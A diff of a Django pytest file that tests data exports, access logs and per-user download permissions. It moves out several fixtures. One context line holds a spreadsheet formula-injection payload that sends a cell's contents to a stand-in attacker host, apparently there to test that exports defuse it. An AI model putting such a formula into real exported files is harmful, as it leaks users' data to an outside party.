@@ -58,18 +58,6 @@ query($id: ID!) { accessLog(recordId: $id) { action export { id format filter fi
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
 
 
-@pytest.fixture
-def storage(settings: Any, tmp_path: Path) -> Path:
-    settings.STORAGES = {
-        **settings.STORAGES,
-        "attachments": {
-            "BACKEND": "django.core.files.storage.FileSystemStorage",
-            "OPTIONS": {"location": str(tmp_path / "files")},
-        },
-    }
-    return tmp_path / "files"
-
-
 def _token(username: str) -> str:
     value: str = login(username)["accessToken"]
     return value
@@ -105,11 +93,6 @@ def _download(url: str) -> bytes:
     response = Client().get(url.removeprefix("http://testserver"))
     assert response.status_code == 200, response.content
     return b"".join(response.streaming_content)  # type: ignore[attr-defined]
-
-
-@pytest.fixture
-def capture(django_capture_on_commit_callbacks: Callable[..., Any]) -> Callable[..., Any]:
-    return django_capture_on_commit_callbacks
 
 
 @pytest.mark.usefixtures("storage")
@@ -225,15 +208,6 @@ def test_a_link_is_refused_to_another_user(capture: Callable[..., Any]) -> None:
     )
     assert Client().get(f"/exports/{as_attachment}").status_code == 403
     assert job["status"] == "COMPLETED"
-
-
-@pytest.fixture
-def queued_only(monkeypatch: pytest.MonkeyPatch) -> None:
-    """Exports are recorded but not run: the test runs them itself."""
-    from backend.notifications import outbox
-    from backend.notifications.models import OutboxEvent
-
-    monkeypatch.setitem(outbox._HANDLERS, OutboxEvent.Kind.EXPORT, lambda event: None)
 
 
 @pytest.mark.usefixtures("storage", "queued_only")
